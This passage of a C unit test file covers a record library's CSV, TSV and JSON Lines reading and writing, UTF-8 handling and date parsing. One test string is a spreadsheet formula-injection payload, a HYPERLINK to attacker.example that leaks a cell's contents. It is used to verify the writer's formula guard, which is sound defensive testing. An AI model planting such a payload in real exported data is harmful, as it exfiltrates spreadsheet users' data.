/* Unit tests of the record library: formats, reading, writing. */
#include "dl-cli.h"
#include "dl-record.h"
#include "dl-spill.h"
#include "dl-text.h"

#include <glib/gstdio.h>
#include <stdio.h>
#include <string.h>

static char *
write_temp (const char *contents)
{
  g_autoptr (GError) error = NULL;
  char *path = NULL;
  int fd = g_file_open_tmp ("dl-record-XXXXXX.csv", &path, &error);

  g_assert_no_error (error);
  close (fd);
  g_file_set_contents (path, contents, -1, &error);
  g_assert_no_error (error);
  return path;
}

static DlReader *
open_mentions (const char *contents, char **path, GError **error)
{
  DlReader *reader;
  static const DlColumn required[] = { DL_COL_FORM };

  *path = write_temp (contents);
  reader = dl_reader_open (*path, error);
  g_assert_nonnull (reader);
  if (!dl_reader_read_header (reader, DL_FORMAT_MENTIONS, DL_FORMAT_RANGES,
                              required, 1, error))
    {
      dl_reader_free (reader);
      return NULL;
    }
  return reader;
}

static void
test_format_names (void)
{
  gsize n;
  const DlColumn *cols = dl_format_columns (DL_FORMAT_TIMELINE, &n);

  g_assert_cmpuint (n, ==, 15);
  g_assert_cmpstr (dl_format_column_name (DL_FORMAT_TIMELINE, cols[0]), ==,
                   "start");
  g_assert_cmpstr (dl_format_column_name (DL_FORMAT_MENTIONS, DL_COL_START),
                   ==, "start");
  g_assert_null (dl_format_column_name (DL_FORMAT_MENTIONS, DL_COL_VALUE));
  dl_format_columns (DL_FORMAT_RANGES, &n);
  g_assert_cmpuint (n, ==, 19);
}

static void
test_read_extra_and_quotes (void)
{
  g_autofree char *path = NULL;
  g_autoptr (GError) error = NULL;
  g_autoptr (DlReader) reader = open_mentions (
      "topic,form,context\n"
      "\" keep spaces \",2022,\"a, \"\"quoted\"\"\nline\"\n",
      &path, &error);
  g_autoptr (DlRecord) record = NULL;

  g_assert_no_error (error);
  g_assert_cmpuint (dl_reader_extra_names (reader)->len, ==, 1);
  g_assert_cmpstr (dl_reader_extra_names (reader)->pdata[0], ==, "topic");
  record = dl_reader_next (reader, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (dl_record_get (record, DL_COL_FORM), ==, "2022");
  g_assert_cmpstr (dl_record_get (record, DL_COL_CONTEXT), ==,
                   "a, \"quoted\"\nline");
  g_assert_cmpstr (record->extra->pdata[0], ==, " keep spaces ");
  g_assert_cmpuint (record->line, ==, 2);
  g_assert_null (dl_reader_next (reader, &error));
  g_assert_no_error (error);
  g_unlink (path);
}

static void
test_missing_column (void)
{
  g_autofree char *path = NULL;
  g_autoptr (GError) error = NULL;
  g_autoptr (DlReader) reader = open_mentions ("doc,start\nx,1\n", &path,
                                               &error);

  g_assert_null (reader);
  g_assert_error (error, DL_ERROR, DL_ERROR_DATA);
  g_assert_nonnull (strstr (error->message, ":1: missing column \"form\""));
  g_unlink (path);
}

/* Reads every record of reader: the forms of the good ones joined by
 * spaces, the lines of the bad ones (each a DL_ERROR_BAD_ROW naming the
 * file) into bad. */
static char *
read_forms (DlReader *reader, const char *path, GString *bad)
{
  g_autoptr (GString) forms = g_string_new (NULL);

  for (;;)
    {
      g_autoptr (GError) error = NULL;
      g_autoptr (DlRecord) record = dl_reader_next (reader, &error);

      if (record != NULL)
        {
          g_string_append_printf (forms, "%s%s", forms->len ? " " : "",
                                  dl_record_get (record, DL_COL_FORM));
          continue;
        }
      if (error == NULL)
        break;
      g_assert_error (error, DL_ERROR, DL_ERROR_BAD_ROW);
      g_assert_true (g_str_has_prefix (error->message, path));
      g_string_append_printf (bad, "%s%.*s", bad->len ? " " : "",
                              (int) strcspn (error->message + strlen (path) + 1,
                                             ":"),
                              error->message + strlen (path) + 1);
    }
  return g_strdup (forms->str);
}

/* Reads input as mentions: the good rows' forms and the bad rows' lines
 * must be forms and bad, and skipped rows must have been counted. */
static void
check_reading (const char *input, const char *forms_wanted,
               const char *bad_wanted, guint64 skipped)
{
  g_autofree char *path = NULL;
  g_autoptr (GError) error = NULL;
  g_autoptr (DlReader) reader = open_mentions (input, &path, &error);
  g_autoptr (GString) bad = g_string_new (NULL);
  g_autofree char *forms = NULL;

  g_assert_no_error (error);
  forms = read_forms (reader, path, bad);
  g_assert_cmpstr (forms, ==, forms_wanted);
  g_assert_cmpstr (bad->str, ==, bad_wanted);
  g_assert_cmpuint (dl_reader_skipped (reader), ==, skipped);
  g_unlink (path);
}

/* A bad row is told, counted and skipped; reading goes on at the next line
 * (issue 8: a bad row used to end the file). */
static void
test_bad_rows (void)
{
  static const struct { const char *input, *forms, *bad; } cases[] = {
    { "form\n2022\n2023,extra\n2024\n", "2022 2024", "3" },
    { "form\n2022\n20\"22\n2024\n", "2022 2024", "3" },
    { "form\n\"20\"22\n2024\n", "2024", "2" },
    { "form\n\xff\n2024\n", "2024", "2" },
    { "form\n2022\n\"2023\n2024\n2025\n", "2022 2024 2025", "3" },
    { "form\n2022\n\"2023\n2024\n\"2025\n", "2022 2024", "3 5" },
    { "form\n\"a\nb\"\n2024\n", "a\nb 2024", "" },
    { "form,doc\n2022,a\n\"20\n22\",a\n20\"23,a\n2024,a\n",
      "2022 20\n22 2024", "5" },
  };

  /* Each bad row here is one line number of one digit. */
  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    check_reading (cases[i].input, cases[i].forms, cases[i].bad,
                   (strlen (cases[i].bad) + 1) / 2);
}

/* A NUL byte spoils its line only. */
static void
test_nul_row (void)
{
  static const char input[] = "form\n2022\n20\00022\n2024\n";
  g_autofree char *path = write_temp ("");
  g_autoptr (GError) error = NULL;
  g_autoptr (DlReader) reader = NULL;
  g_autoptr (GString) bad = g_string_new (NULL);
  g_autofree char *forms = NULL;
  static const DlColumn required[] = { DL_COL_FORM };

  g_file_set_contents (path, input, sizeof input - 1, &error);
  g_assert_no_error (error);
  reader = dl_reader_open (path, &error);
  g_assert_true (dl_reader_read_header (reader, DL_FORMAT_MENTIONS,
                                        DL_FORMAT_RANGES, required, 1,
                                        &error));
  forms = read_forms (reader, path, bad);
  g_assert_cmpstr (forms, ==, "2022 2024");
  g_assert_cmpstr (bad->str, ==, "3");
  g_unlink (path);
}

/* A UTF-8 byte order mark before the header is no part of the first
 * column's name (issue 8: "doc" became an unknown column). */
static void
test_bom (void)
{
  g_autofree char *path = NULL;
  g_autoptr (GError) error = NULL;
  g_autoptr (DlReader) reader = open_mentions ("\xef\xbb\xbf" "doc,form\n"
                                               "a.txt,2022\n",
                                               &path, &error);
  g_autoptr (DlRecord) record = NULL;

  g_assert_no_error (error);
  g_assert_cmpuint (dl_reader_extra_names (reader)->len, ==, 0);
  record = dl_reader_next (reader, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (dl_record_get (record, DL_COL_DOC), ==, "a.txt");
  g_unlink (path);
}

/* Outputs joined into one stream: a later copy of the header is skipped;
 * a different header is a bad row, and so is each row under it, until the
 * first header comes again.  Never a header read as data (issue 9). */
static void
test_header_in_stream (void)
{
  static const struct { const char *input, *forms, *bad; guint skipped; }
  cases[] = {
    { "doc,form\na,2022\ndoc,form\nb,2023\n", "2022 2023", "", 0 },
    { "doc,form\na,2022\n\xef\xbb\xbf" "doc,form\nb,2023\n", "2022 2023",
      "", 0 },
    { "doc,form\na,2022\nform,doc\n2023,b\ndoc,form\nc,2024\n",
      "2022 2024", "3", 1 },
    { "doc,form,topic\na,2022,x\ndoc,form\nb,2023\n", "2022", "3", 1 },
    { "doc,form\na,2022\ndoc,form,topic\nb,2023,x\n", "2022", "3", 1 },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    check_reading (cases[i].input, cases[i].forms, cases[i].bad,
                   cases[i].skipped);
}

static void
note_freed (gpointer data)
{
  *(gboolean *) data = TRUE;
}

/* dl_reader_open_bytes holds its bytes for as long as it reads them. */
static void
test_open_bytes_holds (void)
{
  static const char csv[] = "form\n2022\n";
  static const DlColumn required[] = { DL_COL_FORM };
  g_autoptr (GError) error = NULL;
  gboolean freed = FALSE;
  char *copy = g_strdup (csv);
  GBytes *bytes = g_bytes_new_with_free_func (copy, sizeof csv - 1,
                                              note_freed, &freed);
  DlReader *reader = dl_reader_open_bytes ("test", bytes, &error);
  g_autoptr (DlRecord) record = NULL;

  g_bytes_unref (bytes);
  g_assert_false (freed);
  g_assert_true (dl_reader_read_header (reader, DL_FORMAT_MENTIONS,
                                        DL_FORMAT_RANGES, required, 1,
                                        &error));
  record = dl_reader_next (reader, &error);
  g_assert_cmpstr (dl_record_get (record, DL_COL_FORM), ==, "2022");
  dl_reader_free (reader);
  g_assert_true (freed);
  g_free (copy);
}

static void
test_duplicate_column (void)
{
  g_autofree char *path = NULL;
  g_autoptr (GError) error = NULL;
  g_autoptr (DlReader) reader = open_mentions ("form,form\n1,2\n", &path,
                                               &error);

  g_assert_null (reader);
  g_assert_error (error, DL_ERROR, DL_ERROR_DATA);
  g_unlink (path);
}

static void
test_empty_input (void)
{
  g_autofree char *path = NULL;
  g_autoptr (GError) error = NULL;
  g_autoptr (DlReader) reader = open_mentions ("", &path, &error);

  /* An empty input is an empty table: no header needed, no records. */
  g_assert_no_error (error);
  g_assert_nonnull (reader);
  g_assert_null (dl_reader_next (reader, &error));
  g_assert_no_error (error);
  g_unlink (path);
}

/* What a CSV writer of mentions (with the user's columns extra) writes
 * for record. */
static char *
written_csv (const DlRecord *record, GPtrArray *extra)
{
  g_autofree char *path = write_temp ("");
  g_autoptr (GError) error = NULL;
  char *text = NULL;
  FILE *out = fopen (path, "w");
  DlWriter *writer = dl_writer_new (out, path, DL_FORMAT_MENTIONS, extra);

  g_assert_true (dl_writer_write (writer, record, &error));
  g_assert_true (dl_writer_finish (writer, &error));
  dl_writer_free (writer);
  fclose (out);
  g_assert_true (g_file_get_contents (path, &text, NULL, &error));
  g_unlink (path);
  return text;
}

static void
test_write_round_trip (void)
{
  g_autoptr (GPtrArray) extra = g_ptr_array_new ();
  g_autoptr (DlRecord) record = dl_record_new ();
  g_autofree char *text = NULL;

  g_ptr_array_add (extra, "note");
  dl_record_set (record, DL_COL_DOC, "a.txt");
  dl_record_set (record, DL_COL_CONTEXT, "He said \"no\", twice.");
  g_ptr_array_add (record->extra, g_strdup ("kept"));
  text = written_csv (record, extra);
  g_assert_cmpstr (text, ==,
                   "doc,dct,start,end,line,sentence,mention,form,anchor,"
                   "event,context,note\n"
                   "a.txt,,,,,,,,,,\"He said \"\"no\"\", twice.\",kept\n");
}

/* A field too big for the row buffer goes straight to the stream, quoted
 * the same way, between the fields before and after it. */
static void
test_write_big_field (void)
{
  g_autofree char *path = write_temp ("");
  g_autoptr (GError) error = NULL;
  g_autoptr (DlRecord) record = dl_record_new ();
  g_autoptr (DlRecord) back = NULL;
  g_autoptr (DlReader) reader = NULL;
  g_autoptr (GString) big = g_string_new (NULL);
  FILE *out = fopen (path, "w");
  DlWriter *writer = dl_writer_new (out, path, DL_FORMAT_MENTIONS, NULL);
  static const DlColumn required[] = { DL_COL_DOC };

  while (big->len < 200000)
    g_string_append (big, "He said \"no\", twice. ");
  dl_record_set (record, DL_COL_DOC, "a.txt");
  dl_record_set (record, DL_COL_MENTION, "no");
  dl_record_set (record, DL_COL_CONTEXT, big->str);
  g_assert_true (dl_writer_write (writer, record, &error));
  g_assert_true (dl_writer_write (writer, record, &error));
  g_assert_true (dl_writer_finish (writer, &error));
  dl_writer_free (writer);
  fclose (out);
  reader = dl_reader_open (path, &error);
  g_assert_no_error (error);
  g_assert_true (dl_reader_read_header (reader, DL_FORMAT_MENTIONS,
                                        DL_FORMAT_MENTIONS, required, 1,
                                        &error));
  for (int i = 0; i < 2; i++)
    {
      g_clear_pointer (&back, dl_record_free);
      back = dl_reader_next (reader, &error);
      g_assert_no_error (error);
      g_assert_nonnull (back);
      g_assert_cmpstr (dl_record_get (back, DL_COL_MENTION), ==, "no");
      g_assert_cmpstr (dl_record_get (back, DL_COL_CONTEXT), ==, big->str);
    }
  g_unlink (path);
}

static void
test_header_only_output (void)
{
  g_autofree char *path = write_temp ("");
  g_autoptr (GError) error = NULL;
  g_autofree char *text = NULL;
  FILE *out = fopen (path, "w");
  g_autoptr (DlWriter) writer = dl_writer_new (out, path, DL_FORMAT_TIMELINE,
                                               NULL);

  g_assert_true (dl_writer_finish (writer, &error));
  fclose (out);
  g_file_get_contents (path, &text, NULL, &error);
  g_assert_cmpstr (text, ==, "start,end,when,event,mention,source,sources,"
                             "value,granularity,certainty,type,doc,dct,"
                             "context,note\n");
  g_unlink (path);
}

/* Writes records of one context each through a writer of options into
 * path, and returns the text written. */
static char *
write_contexts (const char *path, const DlOutputOptions *options,
                const char *const *contexts, gsize n)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (DlWriter) writer = dl_writer_open (options, DL_FORMAT_MENTIONS,
                                                &error);
  char *text = NULL;

  g_assert_no_error (error);
  for (gsize i = 0; i < n; i++)
    {
      g_autoptr (DlRecord) record = dl_record_new ();

      dl_record_set (record, DL_COL_DOC, "a.txt");
      dl_record_set (record, DL_COL_FORM, "2020");
      dl_record_set (record, DL_COL_CONTEXT, contexts[i]);
      g_assert_true (dl_writer_write (writer, record, &error));
    }
  g_assert_true (dl_writer_finish (writer, &error));
  g_assert_no_error (error);
  g_file_get_contents (path, &text, NULL, &error);
  g_assert_no_error (error);
  return text;
}

/* The contexts read back from path, raw or not. */
static GPtrArray *
read_contexts (const char *path, gboolean raw)
{
  static const DlColumn required[] = { DL_COL_CONTEXT };
  g_autoptr (GError) error = NULL;
  g_autoptr (DlReader) reader = dl_reader_open (path, &error);
  GPtrArray *contexts = g_ptr_array_new_with_free_func (g_free);
  DlRecord *record;

  dl_reader_set_raw (reader, raw);
  g_assert_true (dl_reader_read_header (reader, DL_FORMAT_MENTIONS,
                                        DL_FORMAT_MENTIONS, required, 1,
                                        &error));
  while ((record = dl_reader_next (reader, &error)) != NULL)
    {
      g_ptr_array_add (contexts,
                       g_strdup (dl_record_get (record, DL_COL_CONTEXT)));
      dl_record_free (record);
    }
  g_assert_no_error (error);
  return contexts;
}

static const char *const risky[] = {
  "=HYPERLINK(\"http://attacker.example/?leak=\"&E2,\"Report\") on May 5",
  "+1 555", "-5 degrees", "@SUM(A1)", "\tcell", "\rcell", "'=already",
  "''+twice", "-", "=", "'", "'-", "plain", "", "a=b", " =spaced",
};

/* The spreadsheet guard (issue 8 item 7): a cell a spreadsheet would take
 * for a formula gets one quote, in CSV and in TSV; reading drops it again,
 * so every cell comes back as it was; --raw writes and reads cells as they
 * are. */
static void
test_guard (void)
{
  static const char *const formats[] = { "csv", "tsv" };

  for (gsize f = 0; f < G_N_ELEMENTS (formats); f++)
    for (int raw = 0; raw <= 1; raw++)
      {
        g_autofree char *path = write_temp ("");
        DlOutputOptions options = { path, formats[f], raw };
        g_autofree char *text = write_contexts (path, &options, risky,
                                                G_N_ELEMENTS (risky));
        g_autoptr (GPtrArray) back = read_contexts (path, raw);
        gboolean tsv = f == 1;

        g_assert_cmpuint (back->len, ==, G_N_ELEMENTS (risky));
        for (gsize i = 0; i < G_N_ELEMENTS (risky); i++)
          {
            g_autofree char *want = g_strdup (risky[i]);

            if (tsv)
              g_strdelimit (want, "\t\r\n", ' ');
            g_assert_cmpstr (back->pdata[i], ==, want);
          }
        g_assert_true ((strstr (text, "'=HYPERLINK(") != NULL) == !raw);
        g_assert_true ((strstr (text, "'-5 degrees") != NULL) == !raw);
        g_assert_true ((strstr (text, "''=already") != NULL) == !raw);
        /* one character alone is no formula */
        g_assert_true (strstr (text, ",-\n") || strstr (text, "\t-\n"));
        g_unlink (path);
      }
}

/* Every output is UTF-8: a byte that is not becomes U+FFFD (issue 8 item
 * 6: a file name that is not UTF-8 was written as it was), in a short cell
 * and in one too big for the row buffer. */
static void
test_write_invalid_utf8 (void)
{
  static const char *const formats[] = { "csv", "tsv", "jsonl" };
  g_autoptr (GString) big = g_string_new ("big caf\xe9 ");

  while (big->len < 100000)
    g_string_append (big, "and so on, ");
  for (gsize f = 0; f < G_N_ELEMENTS (formats); f++)
    {
      g_autofree char *path = write_temp ("");
      DlOutputOptions options = { path, formats[f], FALSE };
      const char *const contexts[] = { "caf\xe9 \xff\xfe ok", big->str };
      g_autofree char *text = write_contexts (path, &options, contexts, 2);

      g_assert_true (g_utf8_validate (text, -1, NULL));
      g_assert_nonnull (strstr (text, "caf\xef\xbf\xbd \xef\xbf\xbd\xef\xbf\xbd ok"));
      g_assert_nonnull (strstr (text, "big caf\xef\xbf\xbd and so on"));
      g_unlink (path);
    }
}

/* TSV: a tab, CR or LF in a cell is a space; read back as TSV. */
static void
test_tsv (void)
{
  g_autofree char *path = write_temp ("");
  DlOutputOptions options = { path, "tsv", FALSE };
  const char *const contexts[] = { "a\tb\nc\r\nd", "\"quoted\", and, commas" };
  g_autofree char *text = write_contexts (path, &options, contexts, 2);
  g_autoptr (GPtrArray) back = read_contexts (path, FALSE);

  g_assert_true (g_str_has_prefix (text, "doc\tdct\tstart\tend\tline\t"));
  g_assert_nonnull (strstr (text, "\ta b c  d\n"));
  g_assert_cmpuint (back->len, ==, 2);
  g_assert_cmpstr (back->pdata[0], ==, "a b c  d");
  g_assert_cmpstr (back->pdata[1], ==, contexts[1]);
  g_unlink (path);
}

/* JSON Lines: one object a line, keys in column order, counts and offsets
 * numbers (null when empty, a string when they are no count), every
 * control character escaped, no guard. */
static void
test_jsonl_write (void)
{
  g_autofree char *path = write_temp ("");
  DlOutputOptions options = { path, "jsonl", FALSE };
  g_autoptr (GError) error = NULL;
  g_autoptr (DlWriter) writer = dl_writer_open (&options, DL_FORMAT_MENTIONS,
                                                &error);
  g_autoptr (DlRecord) record = dl_record_new ();
  g_autoptr (GPtrArray) extra = g_ptr_array_new ();
  g_autofree char *text = NULL;

  g_ptr_array_add (extra, "topic\"1");
  dl_writer_set_extra_names (writer, extra);
  dl_record_set (record, DL_COL_DOC, "=1+2.txt");
  dl_record_set (record, DL_COL_START, "7");
  dl_record_set (record, DL_COL_END, "017");
  dl_record_set (record, DL_COL_LINE, "0");
  dl_record_set (record, DL_COL_CONTEXT,
                 "\"q\" \\ \t\n\r\b\f\x01\x1f\x7f \xe2\x80\xa8 \xe2\x80\x94");
  g_ptr_array_add (record->extra, g_strdup ("x"));
  g_assert_true (dl_writer_write (writer, record, &error));
  g_assert_true (dl_writer_finish (writer, &error));
  g_file_get_contents (path, &text, NULL, &error);
  g_assert_cmpstr (text, ==,
                   "{\"doc\":\"=1+2.txt\",\"dct\":\"\",\"start\":7,"
                   "\"end\":\"017\",\"line\":0,\"sentence\":null,"
                   "\"mention\":\"\",\"form\":\"\",\"anchor\":\"\",\"event\":\"\","
                   "\"context\":\"\\\"q\\\" \\\\ \\t\\n\\r\\b\\f"
                   "\\u0001\\u001f\\u007f \\u2028 \xe2\x80\x94\","
                   "\"topic\\\"1\":\"x\"}\n");
  g_unlink (path);
}

/* JSON Lines read back: the first object's keys are the header; numbers,
 * null and booleans are cells in decimal or words; a quote that looks like
 * the guard's stays (JSON Lines has no guard); a bad line is a bad row and
 * the next is read. */
static void
test_jsonl_read (void)
{
  check_reading (
      "\xef\xbb\xbf{\"doc\":\"a\",\"start\":7,\"form\":\"'=x\",\"topic\":null}\n"
      "\n"
      "{\"form\":\"2021\",\"doc\":\"b\",\"topic\":true}\n"
      "[1,2]\n"
      "{\"form\":\"2022\",\"other\":1}\n"
      "{\"form\":{\"a\":1}}\n"
      "{\"form\":\"20\\u000022\"}\n"
      "{\"form\":\"2023\"\n"
      "{\"form\":2024,\"start\":1.5}\n",
      "'=x 2021 2024", "4 5 6 7 8", 5);
}

/* Written as JSON Lines and read back, every cell is as it was. */
static void
test_jsonl_round_trip (void)
{
  g_autofree char *path = write_temp ("");
  DlOutputOptions options = { path, "jsonl", FALSE };
  g_autofree char *text = write_contexts (path, &options, risky,
                                          G_N_ELEMENTS (risky));
  g_autoptr (GPtrArray) back = read_contexts (path, FALSE);

  g_assert_cmpuint (back->len, ==, G_N_ELEMENTS (risky));
  for (gsize i = 0; i < G_N_ELEMENTS (risky); i++)
    g_assert_cmpstr (back->pdata[i], ==, risky[i]);
  g_unlink (path);
}

/* -o FILE: written beside FILE and put in place by dl_writer_finish; a
 * writer freed unfinished leaves nothing; the format follows the
 * extension unless given. */
static void
test_output_file (void)
{
  g_autoptr (GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("dl-output-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "out.jsonl", NULL);
  DlOutputOptions options = { path, NULL, FALSE };
  g_autoptr (DlRecord) record = dl_record_new ();
  g_autofree char *text = NULL;
  DlWriter *writer;
  GDir *listing;

  dl_record_set (record, DL_COL_DOC, "a.txt");
  /* Freed before finishing: no file, no temporary file. */
  writer = dl_writer_open (&options, DL_FORMAT_MENTIONS, &error);
  g_assert_no_error (error);
  g_assert_true (dl_writer_write (writer, record, &error));
  dl_writer_free (writer);
  listing = g_dir_open (dir, 0, NULL);
  g_assert_null (g_dir_read_name (listing));
  g_dir_close (listing);
  /* Finished: FILE in place, as JSON Lines by its extension. */
  writer = dl_writer_open (&options, DL_FORMAT_MENTIONS, &error);
  g_assert_true (dl_writer_write (writer, record, &error));
  g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));
  g_assert_true (dl_writer_finish (writer, &error));
  g_assert_no_error (error);
  dl_writer_free (writer);
  g_file_get_contents (path, &text, NULL, &error);
  g_assert_true (g_str_has_prefix (text, "{\"doc\":\"a.txt\","));
  /* --format wins over the extension. */
  options.format = "csv";
  g_clear_pointer (&text, g_free);
  writer = dl_writer_open (&options, DL_FORMAT_MENTIONS, &error);
  g_assert_true (dl_writer_finish (writer, &error));
  dl_writer_free (writer);
  g_file_get_contents (path, &text, NULL, &error);
  g_assert_true (g_str_has_prefix (text, "doc,dct,"));
  g_unlink (path);
  listing = g_dir_open (dir, 0, NULL);
  g_assert_null (g_dir_read_name (listing));
  g_dir_close (listing);
  g_rmdir (dir);
}

/* A format that does not exist, or a folder that does not. */
static void
test_output_errors (void)
{
  DlOutputOptions bad_format = { NULL, "xlsx-not-yet", FALSE };
  DlOutputOptions bad_dir = { "/nonexistent/dir/out.csv", NULL, FALSE };
  g_autoptr (GError) error = NULL;

  g_assert_null (dl_writer_open (&bad_format, DL_FORMAT_RANGES, &error));
  g_assert_error (error, DL_ERROR, DL_ERROR_USAGE);
  g_assert_nonnull (strstr (error->message, "csv, tsv, jsonl"));
  g_clear_error (&error);
  g_assert_null (dl_writer_open (&bad_dir, DL_FORMAT_RANGES, &error));
  g_assert_error (error, DL_ERROR, DL_ERROR_IO);
  g_assert_true (g_str_has_prefix (error->message,
                                   "/nonexistent/dir/out.csv: "));
}

/* Dates in the CSV columns: ISO 8601 days, nothing looser. */
static void
test_iso_dates (void)
{
  static const struct { const char *text; const char *day; } cases[] = {
    { "2024-02-29", "2024-02-29" }, { "20240229", "2024-02-29" },
    { "1998-10-25T14:00", "1998-10-25" }, { "0001-01-01", "0001-01-01" },
    { "2023-02-29", NULL }, { "2023-13-01", NULL }, { "0000-01-01", NULL },
    { "1998-1-25", NULL }, { "1998-10", NULL }, { "1998", NULL },
    { "", NULL }, { " 998-10-25", NULL }, { "+998-10-25", NULL },
    { "1998-10-25x", NULL }, { "1998/10/25", NULL }, { "199810", NULL },
    { "2023-06-15TMO", "2023-06-15" },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      GDate day;
      gboolean ok = dl_parse_iso_date (cases[i].text, &day);

      g_assert_cmpint (ok, ==, cases[i].day != NULL);
      if (ok)
        {
          g_autofree char *text = dl_format_date (&day);
          g_assert_cmpstr (text, ==, cases[i].day);
        }
    }
}

/* A date option: the date, or the date and a time of day, nothing else
 * (issue 8: "2023-01-01 garbage" was taken). */
static void
test_date_option (void)
{
  static const char *const good[] = {
    "2023-01-01", "20230101", "2023-01-01 10:00", "2023-01-01T10:00:00Z",
    "2023-01-01T23:59:60.123+05:30", "2023-01-01T10:00-0800",
    "20230101T101500", "2023-01-01T10:15+05",
  };
  static const char *const bad[] = {
    "2023-01-01 garbage", "2023-01-01 ", "2023-01-01T", "2023-01-01T25:00",
    "2023-01-01T10:60", "2023-01-01T10:00+05:", "2023-01-01T10:00:00Zx",
    "2023-01-01T1", "2023-06-15TMO", "2023-02-30", "",
  };

  for (gsize i = 0; i < G_N_ELEMENTS (good); i++)
    {
      g_autoptr (GError) error = NULL;

      g_assert_true (dl_cli_check_date ("--reference-date", good[i], &error));
      g_assert_no_error (error);
    }
  for (gsize i = 0; i < G_N_ELEMENTS (bad); i++)
    {
      g_autoptr (GError) error = NULL;

      g_assert_false (dl_cli_check_date ("--reference-date", bad[i], &error));
      g_assert_error (error, DL_ERROR, DL_ERROR_USAGE);
    }
}

/* Lookup keys, allocated or in a buffer, agree; a key too long for the
 * buffer is NULL. */
static void
test_text_keys (void)
{
  static const char *const texts[] = {
    "Feb.  24", "  Sept.\n", "", "   ", "MAY", "a\tb  c ",
  };
  char small[4];

  for (gsize i = 0; i < G_N_ELEMENTS (texts); i++)
    {
      char buffer[64];
      g_autofree char *key = dl_text_key (texts[i], -1);

      g_assert_cmpstr (dl_text_key_into (texts[i], strlen (texts[i]), buffer,
                                         sizeof buffer), ==, key);
    }
  g_autofree char *feb = dl_text_key ("Feb.  24", -1);

  g_assert_cmpstr (feb, ==, "feb. 24");
  g_assert_null (dl_text_key_into ("Sept.", 5, small, sizeof small));
  g_assert_cmpstr (dl_text_key_into (" May ", 5, small, sizeof small), ==,
                   "may");
}

/* dl_utf8_validate agrees with GLib, at every length and on random bytes
 * that are mostly ASCII. */
static void
check_like_glib (const char *text, gsize len)
{
  const char *ours = NULL, *glib = NULL;
  gboolean a = dl_utf8_validate (text, len, &ours);
  gboolean b = g_utf8_validate_len (text, len, &glib);

  g_assert_cmpint (a, ==, b);
  g_assert_true (ours == glib);
}

static void
test_utf8 (void)
{
  static const char *const texts[] = {
    "plain ascii text, long enough to pass eight at a time.",
    "caf\xc3\xa9 na\xc3\xafve \xe2\x80\x9cquoted\xe2\x80\x9d \xf0\x9f\x98\x80 end",
    "bad \xc3 here", "overlong \xc0\xaf slash", "surrogate \xed\xa0\x80 x",
    "too big \xf4\x90\x80\x80", "lone \x80 continuation", "cut at end \xe2\x80",
  };
  GRand *rand = g_rand_new_with_seed (42);

  for (gsize i = 0; i < G_N_ELEMENTS (texts); i++)
    for (gsize len = 0; len <= strlen (texts[i]); len++)
      check_like_glib (texts[i], len);
  check_like_glib ("nul \0 inside", 13);
  for (int round = 0; round < 2000; round++)
    {
      char buffer[64];
      gsize len = g_rand_int_range (rand, 0, sizeof buffer);

      for (gsize k = 0; k < len; k++)
        buffer[k] = g_rand_int_range (rand, 0, 10) ? g_rand_int_range (rand, 32, 127)
                                                   : g_rand_int_range (rand, 0, 256);
      check_like_glib (buffer, len);
    }
  g_rand_free (rand);
}

/* A cell with commas and no quote mark is the cell between two quotes. */
static void
test_write_commas (void)
{
  g_autoptr (DlRecord) record = dl_record_new ();
  g_autofree char *text = NULL;

  dl_record_set (record, DL_COL_DOC, "a.txt");
  dl_record_set (record, DL_COL_EVENT, "in 2019, the war");
  dl_record_set (record, DL_COL_CONTEXT, "Later, in 2019, the war\nended.");
  text = written_csv (record, NULL);
  g_assert_cmpstr (text, ==,
                   "doc,dct,start,end,line,sentence,mention,form,anchor,"
                   "event,context\n"
                   "a.txt,,,,,,,,,\"in 2019, the war\","
                   "\"Later, in 2019, the war\nended.\"\n");
}

static void
assert_same_record (const DlRecord *a, const DlRecord *b)
{
  for (int i = 0; i < DL_N_COLUMNS; i++)
    g_assert_cmpstr (a->fields[i], ==, b->fields[i]);
  g_assert_cmpuint (a->extra->len, ==, b->extra->len);
  for (guint i = 0; i < a->extra->len; i++)
    g_assert_cmpstr (a->extra->pdata[i], ==, b->extra->pdata[i]);
  g_assert_cmpstr (a->origin, ==, b->origin);
  g_assert_cmpuint (a->line, ==, b->line);
}

/* Records spilled one after another read back as they were: set and
 * unset columns, user's columns (NULL, empty, more than a few), origin and
 * line. */
static void
test_spill_round_trip (void)
{
  g_autoptr (GByteArray) out = g_byte_array_new ();
  g_autoptr (DlRecord) first = dl_record_new ();
  g_autoptr (DlRecord) second = dl_record_new ();
  g_autoptr (GError) error = NULL;
  gsize first_len;

  dl_record_set (first, DL_COL_DOC, "a.txt");
  dl_record_take (first, DL_COL_CONTEXT, g_strnfill (300, 'x'));
  g_ptr_array_add (first->extra, g_strdup ("kept"));
  g_ptr_array_add (first->extra, NULL);
  g_ptr_array_add (first->extra, g_strdup (""));
  first->origin = g_ref_string_new ("in.csv");
  first->line = 200000;
  dl_record_set (second, DL_COL_START, "5");
  for (int i = 0; i < 40; i++)
    g_ptr_array_add (second->extra, g_strdup_printf ("c%d", i));
  dl_spill_encode (out, first);
  first_len = out->len;
  dl_spill_encode (out, second);
  {
    g_autoptr (DlRecord) a = dl_spill_decode (out->data, first_len, &error);
    g_autoptr (DlRecord) b = dl_spill_decode (out->data + first_len,
                                              out->len - first_len, &error);

    g_assert_no_error (error);
    assert_same_record (first, a);
    assert_same_record (second, b);
  }
  g_assert_null (dl_spill_decode (out->data, first_len - 1, &error));
  g_assert_nonnull (error);
}

/* A compacted record holds the same fields in one block, whether they
 * were its own, in a block already (a record read back) or unset; its
 * fields can be set again, and it is compacted again as it was. */
static void
test_compact (void)
{
  g_autoptr (GByteArray) out = g_byte_array_new ();
  g_autoptr (DlRecord) made = dl_record_new ();
  g_autoptr (DlRecord) read = NULL;
  g_autoptr (GError) error = NULL;

  dl_record_set (made, DL_COL_DOC, "a.txt");
  dl_record_set (made, DL_COL_MENTION, "");
  dl_record_take (made, DL_COL_CONTEXT, g_strnfill (300, 'x'));
  g_ptr_array_add (made->extra, g_strdup ("kept"));
  dl_spill_encode (out, made);
  read = dl_spill_decode (out->data, out->len, &error);
